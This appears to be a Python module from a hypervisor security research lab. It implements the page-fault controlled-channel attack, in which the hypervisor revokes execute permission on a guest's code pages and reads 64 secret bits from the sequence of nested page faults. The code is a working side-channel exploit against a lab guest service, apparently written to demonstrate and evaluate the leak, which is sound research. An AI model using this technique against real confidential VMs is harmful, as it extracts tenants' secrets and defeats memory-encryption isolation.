"""A14: the page-fault controlled channel (Xu, Cui, Peinado, IEEE S&P 2015; SEV-Step, TCHES 2024).

The hypervisor cannot read the guest, but it decides which guest pages are executable. It takes
execute permission away from the guest's three code pages of interest (the walk loop and the two
per-bit functions); each fetch from one of them is a nested page fault that names the page, and
the hypervisor re-arms the other two. The sequence of faulting pages is the secret's bits.
No memory-encryption mode hides page-granular access patterns, SEV-SNP included: only
page-oblivious guest code does.
"""

from __future__ import annotations

from hv.attacks.evidence import text_of
from hv.attacks.findings import Findings
from hv.attacks.lab import OP_BRANCH, Request
from hv.attacks.outcome import Outcome
from hv.attacks.verdict import Trial, judge
from hv.hw.npt import NPT_R, NPT_RWX, NPT_W
from hv.hw.addr import GPA
from hv.kvm import MemoryFault

__all__ = ["ID", "NAME", "PAPER", "PRIMITIVES", "run"]

ID = "A14"
NAME = "page-fault controlled channel"
PAPER = "Xu, Cui, Peinado, Controlled-Channel Attacks, IEEE S&P 2015"
PRIMITIVES = ("T",)

_PAGE = 0x1000


BITS = 64  # guests/service.c's branch_walk: the secret's first 64 bits, most significant first


def _attack(trial: Trial) -> Findings:
    trace: list[str] = []

    with trial.lab("service") as lab:
        pages = {lab.symbols[n] & ~0xFFF: n for n in ("branch_walk", "branch_one", "branch_zero")}

        def arm(except_page: int | None) -> None:
            for p in pages:
                lab.vm.npt_protect(GPA(p), _PAGE, NPT_RWX if p == except_page else NPT_R | NPT_W)

        def on_fault(f: MemoryFault) -> bool:
            page = f.gpa & ~0xFFF
            if not f.fetch or page not in pages:
                return False
            trace.append(pages[page])
            arm(page)
            return True

        def script():
            arm(None)
            yield Request(OP_BRANCH)
            for p in pages:
                lab.vm.npt_protect(GPA(p), _PAGE, NPT_RWX)

        lab.launch()
        stop = lab.run(script(), on_fault=on_fault)
    bits = [t for t in trace if t != "branch_walk"]
    value = 0
    for b in bits:
        value = value << 1 | (b == "branch_one")
    recovered = value.to_bytes(len(bits) // 8, "little") if len(bits) == BITS else b""
    shown = f"{value:#018x} (the bytes {text_of(recovered)})" if recovered else f"{len(bits)} bits, not {BITS}"
    return Findings(f"{len(trace)} nested page faults; the branch pages spell {shown}",
                    recovered=recovered, completed=stop.reason == "exit")


def run(mode: str) -> Outcome:
    return judge(ID, mode, _attack)
